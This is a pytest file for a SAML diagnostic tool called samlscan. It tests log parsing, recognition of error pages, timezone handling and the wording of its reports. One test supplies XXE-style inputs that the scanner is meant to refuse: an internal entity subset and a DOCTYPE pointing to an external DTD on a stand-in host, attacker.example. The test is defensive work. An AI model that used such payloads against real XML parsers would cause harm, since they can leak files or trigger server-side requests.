"""Review of the fourteenth session: what a look at the CLI with odd but valid input found."""
from __future__ import annotations

import subprocess
import sys
from datetime import timedelta
from pathlib import Path

from samlscan.batch import run_scan
from samlscan.config import Expectations
from samlscan.engine import rejudged
from samlscan.report import render_chunks

ROOT = Path(__file__).resolve().parent.parent
OKTA = ROOT / "fixtures" / "responses" / "valid" / "okta.xml"
DUMPS = ROOT / "fixtures" / "logs" / "sonarqube" / "web-javasaml.log"


def _table(args: list[str]) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "samlscan", "check", *args], capture_output=True, text=True)


def test_at_without_zone_is_named_in_the_table_not_a_crash():
    """--at without a zone is read as UTC and says so (config: at_source's own words): the table's
    'judged' line showed only the four usual sources and failed with a KeyError on these words."""
    p = _table(["--at", "2025-03-11T08:41:00", str(OKTA)])
    assert p.returncode == 0, p.stderr
    assert "judged at --at, no zone given: read as UTC" in p.stdout
    assert "internal error" not in p.stderr


def test_a_log_rejudged_in_another_zone_renders_its_reason():
    """engine.rejudged judges a log's SAML copies again at their line time moved by a measured
    zone; its MessageResult names why, in words, which the table must show as they are."""
    report = run_scan([str(DUMPS)], Expectations(), jobs=1)
    assert report.messages, "the log holds SAML dumps"
    again = rejudged(report, Expectations(), {str(DUMPS): timedelta(hours=1)})
    text = "".join(render_chunks(again, "table", False, True))
    assert "judged at log time +1 h: the log reads as another time zone (pass --timezone)" in text


def _worst(path: Path) -> list[tuple[str, str]]:
    from samlscan.engine import analyze

    report = analyze([str(path)], Expectations())
    return [(f.severity.value, f.code) for f in report.input_findings]


def test_an_html_page_with_its_doctype_is_not_saml_not_an_attack(tmp_path):
    """A saved web page (HTML5 '<!DOCTYPE html>', XHTML 1.0's public DOCTYPE: SimpleSAMLphp's login
    form shown again after a wrong password) was an ERROR input-dtd-forbidden, 'a sign of an XXE
    attack'; it is a page without SAML in it (input-not-saml, skipped in a directory scan)."""
    pages = {
        "html5.html": b"<!DOCTYPE html>\n<html lang='en'><body><p>Incorrect username or password</p></body></html>\n",
        "xhtml.html": b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- saved -->\n<!DOCTYPE html PUBLIC '
                      b'"-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-'
                      b'transitional.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    }
    for name, data in pages.items():
        (tmp_path / name).write_bytes(data)
        assert _worst(tmp_path / name) == [("warning", "input-not-saml")], name
    page = ROOT / "tests" / "data" / "livessp" / "wrong-password.html"
    # (since review27 that page is read as SimpleSAMLphp's failed sign-in, WRONGUSERPASS: no input finding)
    assert _worst(page) == []


def test_a_doctype_that_can_declare_entities_or_wraps_saml_is_still_refused(tmp_path):
    """Only a plain HTML DOCTYPE before an <html> root is a page: an internal subset (entities), or a
    SAML root behind an HTML DOCTYPE, stays input-dtd-forbidden."""
    shapes = {
        "subset.html": b'<!DOCTYPE html [<!ENTITY x "y">]>\n<html><body>&x;</body></html>',
        "saml.xml": b'<!DOCTYPE html>\n<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"/>',
        "system.xml": b'<!DOCTYPE Response SYSTEM "http://attacker.example/x.dtd">\n<Response/>',
    }
    for name, data in shapes.items():
        (tmp_path / name).write_bytes(data)
        assert _worst(tmp_path / name) == [("error", "input-dtd-forbidden")], name


def test_simplesamlphp_page_is_read_by_the_exception_it_shows():
    """SimpleSAMLphp's error page shows the thrown exception under 'Debug information' (as its log
    line words it): that names the cause (METADATANOTFOUND: the SP is unknown to the IdP) where the
    page's last two paragraphs before the tracking number are boilerplate for every error."""
    from samlscan.errorpages import read_page

    page = (ROOT / "tests" / "data" / "livessp" / "unknown-sp.html").read_text()
    got = read_page(page)
    assert got is not None and got.product == "simplesamlphp" and got.request_id == "e13a9abb59"
    assert got.text.startswith("METADATANOTFOUND(")
    from samlscan.catalog import lookup

    assert lookup(got.text, "simplesamlphp").code == "app-not-found"


def _access_log(path: Path, size: int, saml_every: int = 0) -> None:
    """An nginx-style access log of about `size` bytes; with `saml_every`, every so many lines a
    redirect-binding AuthnRequest (fixtures/requests/authnrequest-redirect.txt's URL) in the path."""
    url = (ROOT / "fixtures" / "requests" / "authnrequest-redirect.txt").read_text().strip()
    query = url[url.index("?"):]
    with open(path, "w") as fh:
        n = 0
        while fh.tell() < size:
            n += 1
            target = f"/saml2/idp/SSOService.php{query}" if saml_every and n % saml_every == 0 else \
                f"/api/issues/search?p={n}"
            fh.write(f'192.0.2.{n % 250} - - [11/Mar/2025:08:{n // 60 % 60:02d}:{n % 60:02d} +0000] '
                     f'"GET {target} HTTP/1.1" 200 {n % 9000} "-" "Mozilla/5.0"\n')


def test_a_big_text_in_no_known_layout_is_read_as_lines_not_refused(tmp_path):
    """A text over batch.BIG_TEXT that no reader claims (a web server's access log) was read as
    one pasted message: refused over 64 MiB ('use samlscan scan', in scan itself), seconds below.
    It is streamed through the embedded reader, prefiltered: the SAML in its lines is found, and
    one without any says so once (each range of it said so before)."""
    import samlscan.batch as batch

    log = tmp_path / "access.log"
    _access_log(log, 9 * 1024 * 1024, saml_every=20000)
    assert log.stat().st_size > batch.BIG_TEXT
    report = run_scan([str(log)], Expectations(), jobs=1)
    kinds = {m.message.kind for m in report.messages}
    assert report.inputs[0].status == "scanned" and report.inputs[0].kind == "log:embedded", report.inputs
    assert kinds == {"AuthnRequest"} and len(report.messages) >= 3
    # each at its line's time (the access log's '[11/Mar/2025:08:33:20 +0000]'), not undated
    assert report.messages[0].message.captured_at.isoformat() == "2025-03-11T08:33:20+00:00"

    empty = tmp_path / "empty-access.log"
    _access_log(empty, 9 * 1024 * 1024)
    old, batch.SPLIT_BYTES = batch.SPLIT_BYTES, 2 * 1024 * 1024  # (several ranges, as a big log's)
    try:
        report = run_scan([str(empty)], Expectations(), jobs=2)
    finally:
        batch.SPLIT_BYTES = old
    assert report.inputs[0].status == "failed"
    said = [f for f in report.input_findings if f.code == "input-not-saml"]
    assert len(said) == 1 and "no known log layout" in said[0].message_text


def test_an_access_log_line_time_with_its_offset():
    """Apache's and nginx's common/combined log formats write '%t' as '[10/Oct/2000:13:55:36 -0700]'
    after the client, identity and user: the embedded reader dates a SAML value of that line by it."""
    from datetime import timezone

    from samlscan.logs.embedded import _line_time

    line = ('198.51.100.7 - anna@example.com [10/Oct/2025:13:55:36 -0700] "GET /sso?SAMLRequest=x HTTP/1.1" 302 0')
    assert _line_time(line, timezone.utc).isoformat() == "2025-10-10T13:55:36-07:00"
    assert _line_time('198.51.100.7 - - [31/Apr/2025:13:55:36 +0000] "GET /', timezone.utc) is None
    assert _line_time("logged at [10/Oct/2025:13:55:36 -0700]", timezone.utc) is None


def test_simplesamlphp_sp_texts_without_a_backtrace_are_the_sps():
    """SimpleSAMLphp is an IdP or an SP: a warning only an SP writes, of a response it received
    ('Could not load state specified by InResponseTo', no backtrace under it) is the SP's line; the
    IdP's own lines stay the IdP's."""
    from datetime import timezone

    from samlscan.logs.simplesamlphp import PARSER
    from samlscan.model import LogEvent

    log = ROOT / "tests" / "data" / "livesspsp" / "simplesamlphp.log"
    events = [r for r in PARSER.parse(enumerate(log.read_text().splitlines(), 1), str(log), timezone.utc)
              if isinstance(r, LogEvent) and "specified by InResponseTo" in r.text]
    assert events and {e.side for e in events} == {"sp"}
    idp_log = ROOT / "tests" / "data" / "livessp" / "simplesamlphp.log"
    idp = [r for r in PARSER.parse(enumerate(idp_log.read_text().splitlines(), 1), str(idp_log), timezone.utc)
           if isinstance(r, LogEvent) and r.outcome != "info"]
    assert idp and {e.side for e in idp} == {"idp"}


def _ssp(lines: list[str]):
    from datetime import timezone

    from samlscan.logs.simplesamlphp import PARSER
    from samlscan.model import LogEvent

    return [(r.outcome, r.code) for r in PARSER.parse(enumerate(lines, 1), "ssp.log", timezone.utc)
            if isinstance(r, LogEvent)]


def test_a_lost_state_is_a_failure_only_when_the_sp_refuses_after_it():
    """'Could not load state ... Processing response as unsolicited.' is a warning after which
    SimpleSAMLphp goes on: 1.19 accepted the response (tests/data/livesspsp, state-lost: a failed
    attempt was reported for a login that worked); 2.x with unsolicited responses off refuses it on
    the next line of the session, and the lost state is then the cause."""
    lost = ("Nov 29 13:32:42 simplesamlphp WARNING [efc08d17e5] Could not load state specified by "
            "InResponseTo: NOSTATE Processing response as unsolicited.")
    denied = "Nov 29 13:32:42 simplesamlphp ERROR [efc08d17e5] Unsolicited responses are denied by configuration."
    other = "Nov 29 13:32:43 simplesamlphp ERROR [0000000000] Unsolicited responses are denied by configuration."
    assert _ssp([lost]) == [("info", "relaystate-cookie-missing")]
    assert _ssp([lost, other])[0] == ("info", "relaystate-cookie-missing")  # another session's refusal
    assert _ssp([lost, denied]) == [("failure", "relaystate-cookie-missing"), ("failure", "unsolicited-response")]
    report = run_scan([str(p) for p in (ROOT / "tests" / "data" / "livesspsp").iterdir()
                       if p.name not in ("record.py", "SOURCES.md")], Expectations(), jobs=1)
    from samlscan.cli import _correlated

    failed = [a for a in _correlated(report, Expectations()).attempts if a.outcome == "failure"]
    assert not any(a.root_cause == "relaystate-cookie-missing" for a in failed)
    assert len(failed) == 7  # the seven refusals SimpleSAMLphp logged, each with its response


def test_simplesamlphp_keeps_the_sessions_that_logged_in_last(monkeypatch):
    """The reader remembers the user of its last _SESSIONS_KEPT sessions (bounded): a session that
    logs in again moves to the back, so a busy log's active session keeps its user (it was dropped
    as the oldest stored, its next SSO line naming nobody)."""
    from datetime import timezone

    from samlscan.logs import simplesamlphp
    from samlscan.model import LogEvent

    monkeypatch.setattr(simplesamlphp, "_SESSIONS_KEPT", 2)
    auth = "Nov 29 13:16:5{s} simplesamlphp NOTICE STAT [{t}] User '{u}' successfully authenticated from 127.0.0.1"
    sso = "Nov 29 13:16:5{s} simplesamlphp NOTICE STAT [{t}] saml20-idp-SSO sonarqube https://idp.example.org NA"
    lines = [auth.format(s=1, t="aaaaaaaaaa", u="anna"), auth.format(s=2, t="bbbbbbbbbb", u="ben"),
             auth.format(s=3, t="aaaaaaaaaa", u="anna"), auth.format(s=4, t="cccccccccc", u="cleo"),
             sso.format(s=5, t="aaaaaaaaaa")]
    got = [r for r in simplesamlphp.PARSER.parse(enumerate(lines, 1), "ssp.log", timezone.utc)
           if isinstance(r, LogEvent) and r.outcome == "success"]
    assert [e.user for e in got] == ["anna"]


def test_a_generic_sps_fix_names_its_setting_not_only_samlscans_flag():
    """An SP samlscan does not know: a fix said 'set --sp-entity-id to X', samlscan's own option, in
    a report sent to a customer whose SP has to change (review of the reports); it names the SP's
    setting in general words, and the flag that gave samlscan the value."""
    from samlscan.config import Expectations

    generic = Expectations(profile="generic")
    assert generic.setting_name("sp_entity_id") == "the SP's entity ID (samlscan's --sp-entity-id)"
    assert generic.setting_name("email_attribute") == "the SP's email attribute setting (samlscan's --email-attribute)"
    assert Expectations(profile="sonarqube").setting_name("sp_entity_id") == "sonar.auth.saml.applicationId"


def test_program_source_is_neither_a_page_nor_saml(tmp_path):
    """A generator or test that quotes a page's words or a SAML template (fixtures/gen_case13.py
    writes Shibboleth's 'Web Login Service - {title}' page) was read as that IdP's error page, an
    attempt with no time, or failed as bad base64; it is program source: skipped in a folder, one
    warning when named. A page's own scripts and a log's traceback lines do not count as code."""
    from samlscan.engine import analyze

    report = run_scan([str(ROOT / "fixtures" / "gen_case13.py")], Expectations(), jobs=1)
    assert [f.code for f in report.input_findings] == ["input-not-saml"]
    assert "program source" in report.input_findings[0].message_text
    (tmp_path / "tool.py").write_text((ROOT / "fixtures" / "gen_case13.py").read_text())
    (tmp_path / "evidence.xml").write_bytes(OKTA.read_bytes())
    walked = run_scan([str(tmp_path)], Expectations(), jobs=1)
    status = {Path(i.path).name: i.status for i in walked.inputs}
    assert status == {"tool.py": "skipped", "evidence.xml": "scanned"}

    page = ("<html><head><script>\nfunction go() {\n  var f = document.forms[0];\n  return f.submit();\n}\n"
            "const x = 1;\n</script></head><body><h2>Web Login Service - Unsupported Request</h2>"
            "<p>The application you have accessed is not registered for use with this service.</p></body></html>")
    (tmp_path / "page.html").write_text(page)
    got = analyze([str(tmp_path / "page.html")], Expectations())
    assert got.inputs[0].status == "scanned" and got.events, got.input_findings


def test_a_ticket_with_a_code_snippet_keeps_its_pasted_message(tmp_path):
    """Program source is told only when nothing SAML is read from the text: a ticket that shows the
    user's code (a fenced Python snippet: three lines of code) and the SAMLResponse they captured
    keeps the message."""
    import base64

    b64 = base64.b64encode(OKTA.read_bytes()).decode()
    ticket = ("Hi, our SonarQube login fails. My test script:\n\n```python\nimport base64\n"
              "from lxml import etree\n\ndef show(value):\n    return etree.fromstring(base64.b64decode(value))\n```\n\n"
              f"The SAMLResponse from the browser:\n\n```\n{b64}\n```\n")
    (tmp_path / "ticket.md").write_text(ticket)
    report = run_scan([str(tmp_path / "ticket.md")], Expectations(), jobs=1)
    assert [m.message.kind for m in report.messages] == ["Response"], report.input_findings
